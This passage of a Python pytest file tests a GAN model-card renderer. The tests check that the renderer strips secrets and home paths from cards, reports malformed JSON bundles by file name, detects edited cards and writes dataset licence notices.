            "api_key": "secret",
            "auth_token": "secret",
            "address": "https://secret:secret@example.com/secretless",
            "nested": [{"there": "~/secret/x"}],
            "tokens": 7,
        },
        "environment": {**ENVIRONMENT, "device_name": "/dev/secret/card"},
    }
    trained = {
        **TRAINED,
        "dataset": {"name": "folder", "path": "/home/secret/faces"},
        "init_from": "/home/secret/runs/one",
    }
    scores = {"fid": {"value": 1, "protocol": {"statistics": "/home/secret/stats.npz"}}}
    described = config(training=trained)
    text = card.render(make(tmp_path, described, training=record, metrics=scores))
    assert "secret" not in text.replace("secretless", "") and token not in text
    assert "/home" not in text and "Users" not in text
    for kept in ("faces", "names.txt", "stats.npz", "my faces", "tokens: 7", "--arch.path=b"):
        assert kept in text
    assert "secret" not in card.data_notice(described)


@pytest.mark.parametrize(
    ("found", "shown"),
    [
        ({"credentials": {"user": "jane", "pin": 1}}, {"credentials": HIDDEN}),
        ({"token": ["abcdef"], "password": 1234}, {"token": HIDDEN, "password": HIDDEN}),
        ({"authToken": "abc", "HFToken": "abc"}, {"authToken": HIDDEN, "HFToken": HIDDEN}),
        ({"api-key": "abc", "s3.secret": "abc"}, {"api-key": HIDDEN, "s3.secret": HIDDEN}),
        ({"token": None, "secret": True}, {"token": None, "secret": True}),
        ({"tokens": 7, "tokenise": "a"}, {"tokens": 7, "tokenise": "a"}),
        ("file:///home/jane/x", "x"),
        ("read from file:///home/jane/x", "read from x"),
        ("read from file:///C:/Users/jane/x", "read from x"),
        ("~jane/work", "work"),
        ("read from ~jane/work", "read from work"),
        ("../../jane/x", "x"),
        ("read from ../../jane/x", "read from x"),
        ("see /home/Jane Doe/x", "see x"),
        ("see C:\\Users\\Jane Doe\\data\\x", "see x"),
        ("from /data/a to /data/b", "from a to b"),
        ("https://example.com/home/x/y", "https://example.com/home/x/y"),
        ("train/test, ~5/10, a...b/c", "train/test, ~5/10, a...b/c"),
        ("profile:a/b", "profile:a/b"),
    ],
)
def test_what_is_private_is_left_out(found, shown) -> None:
    assert public(found) == shown == public(shown)


@pytest.mark.parametrize(
    ("words", "shown"),
    [
        ("--dataset.token=s3cr3t", f"--dataset.token={HIDDEN}"),
        ("--api-key=abc", f"--api-key={HIDDEN}"),
        ("--api-key abc", f"--api-key {HIDDEN}"),
        ("--arch.token=a=b", f"--arch.token={HIDDEN}"),
        ("--note=my-token --steps 3", "--note=my-token --steps 3"),
    ],
)
def test_secrets_of_a_command_are_left_out(words: str, shown: str, tmp_path: Path) -> None:
    record = {**RECORD, "command": f"ganzoo train mlp {words}"}
    text = card.render(make(tmp_path, config(), training=record))
    line = fences(text, "bash")[-1].replace(shlex.quote(HIDDEN), HIDDEN).strip()
    assert line.replace("'", "") == f"ganzoo train mlp {shown}"


@pytest.mark.parametrize("file", ["training", "metrics"])
@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"{",
        b"[]",
        b"null",
        b"\xff\xfe",
        b'{"x": NaN, "fid": NaN}',
        b'{"x": 1e999, "fid": 1e999}',
        b'{"config": "many", "fid": "many"}',
        b'{"config": -1, "fid": {}}',
        b'{"config": true, "fid": {"value": true}}',
        b'{"config": [], "fid": {"value": "1.5"}}',
        b'{"command": 5, "fid": {"value": 1, "protocol": "inception"}}',
        b'{"environment": "mine", "fid": {"value": null}}',
        b'{"command": "\\ud800", "a\\nb": {"value": 1}}',
        b'{"command": 1.5, "": {"value": 1}}',
        b"[" * 100_000,
        b'{"a":' * 100 + b"{}" + b"}" * 100,
        b'{"config": ' + b"1" * 5000 + b"}",
        b'{"a": "' + b"x" * 2**20 + b'"}',
    ],
    ids=range(19),
)
def test_broken_files_are_named(tmp_path: Path, file: str, content: bytes) -> None:
    folder = make(tmp_path, config(), **{file: content})
    with pytest.raises(BundleError, match=re.escape(f"{file}.json")) as caught:
        card.render(folder)
    assert len(str(caught.value)) < 700


def test_numbers_beyond_reason_are_shown_or_refused(tmp_path: Path) -> None:
    huge = int("9" * 400)
    with pytest.raises(BundleError):
        card.render(make(tmp_path, config(), metrics={"fid": {"value": huge}}))
    scores = {"fid": {"value": 1e300, "protocol": {"real": huge}}}
    assert "1e+300" in card.render(make(tmp_path, config(), metrics=scores))


@pytest.mark.parametrize(
    ("average", "shown"),
    [
        ({"name": "decay", "decay": 0.5}, "`decay`, `decay` 0.5"),
        (
            {"name": "half-life", "images": 500_000.0, "ramp": 0.05},
            "`half-life`, `images` 500,000, `ramp` 0.05",
        ),
        (
            {"name": "power", "widths": [0.05, 0.1]},
            "`power`, `widths` 0.05 0.1, of which it is 0.1",
        ),
    ],
)
def test_the_average_is_shown_with_its_options(
    tmp_path: Path, average: dict[str, Any], shown: str
) -> None:
    training = {"average": average, "average_kept": 0.1}
    assert f"- Average: {shown}\n" in card.render(make(tmp_path, config(training=training)))


@pytest.mark.parametrize("odd", [10**400, -1, True, "5", [], {}])
def test_an_average_that_is_none_is_not_shown(tmp_path: Path, odd: Any) -> None:
    for training in (
        {"average": odd},
        {"average": {"name": "decay", "decay": odd if odd is not True else "x"}},
        {"average": {"name": odd}},
    ):
        assert "Average:" not in card.render(make(tmp_path, config(training=training)))
    power = {"name": "power", "widths": [0.05, 0.1]}
    text = card.render(make(tmp_path, config(training={"average": power, "average_kept": odd})))
    assert "Average: `power`" in text and "of which" not in text


def test_odd_kinds_in_a_configuration_do_no_harm(tmp_path: Path, caplog) -> None:
    for odd in (5, [], {"name": 5}, {"name": []}, {}, "x", {"name": "no-such"}, None, True):
        trained = dict.fromkeys([*TRAINED, "recipe", "init_from", "precision"], odd)
        made = make(tmp_path, config(training=trained))
        well_formed(card.render(made), caplog)
        card.data_notice(config(training=trained))


def test_a_folder_that_is_no_bundle(tmp_path: Path) -> None:
    with pytest.raises(BundleError, match=r"config\.json"):
        card.render(tmp_path)


# -- the signature ------------------------------------------------------------------------------


def test_only_line_ends_may_change(tmp_path: Path) -> None:
    text = card.render(make(tmp_path, config(), metrics=FID))
    for same in (text, text.replace("\n", "\r\n"), text[:-1], f"{text}\n"):
        assert not card.edited(same)
    middle = len(text) // 2
    for other in (
        "",
        "# mine\n",
        text[:middle] + text[middle + 1 :],
        text.replace("mlp", "MLP"),
        f" {text}",
        f"{text}more\n",
        f"{text}\n\n",
        text[:-2],
        text.replace("sha256 ", "sha256  "),
        text.rpartition("<!--")[0],
        text.replace("\n", "\n\n"),
        text + text,
        text.upper(),
    ):
        assert card.edited(other)


# -- the notice -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("dataset", "licensed", "words"),
    [
        ({"name": "mnist"}, None, "mnist under the licence CC-BY-SA-3.0: make sure"),
        ("mnist", None, "mnist under the licence CC-BY-SA-3.0"),
        ({"name": "cifar10"}, None, "cifar10, whose licence is not known: make sure"),
        ({"name": "plugged-in"}, "MIT", "plugged-in under the licence MIT"),
        ({"name": "plugged-in"}, None, "whose licence is not known"),
        ({"name": "folder", "path": "faces"}, None, "folder (faces), whose licence is not known"),
        (
            {"name": "in-memory", "description": "array (9,)"},
            None,
            "in-memory (array (9,)), whose licence",
        ),
        ({"name": "huggingface", "repo": "a/b"}, None, "https://huggingface.co/datasets/a/b"),
        ({"name": "huggingface", "path": "x"}, None, "huggingface (x)"),
        (None, None, "not recorded"),
    ],
)
def test_what_is_said_of_the_data_before_publishing(dataset, licensed, words) -> None:
    training = {"dataset": dataset, "data_license": licensed}
    notice = card.data_notice(config(training=training))
    assert words in notice and "\n" not in notice and notice.endswith(".")
    tuned = card.data_notice(config(training={**training, "init_from": "org/repo@v1"}))
    assert tuned.startswith(notice) and "org/repo@v1" in tuned


# -- imports --------------------------------------------------------------------------------------


def test_importing_it_imports_no_torch() -> None:
    code = (
        "import sys, ganzoo.generators.card; "
        "assert not {'torch', 'huggingface_hub'} & {*sys.modules}"
    )
    subprocess.run([sys.executable, "-c", code], check=True)


def test_cards_do_not_grow_with_json(tmp_path: Path) -> None:
    long = {**RECORD, "environment": {**ENVIRONMENT, "device_name": "x" * 10**5}}
    assert len(card.render(make(tmp_path, config(), training=long))) < 10_000
    assert json.loads((tmp_path / "training.json").read_text())["environment"]["device_name"]
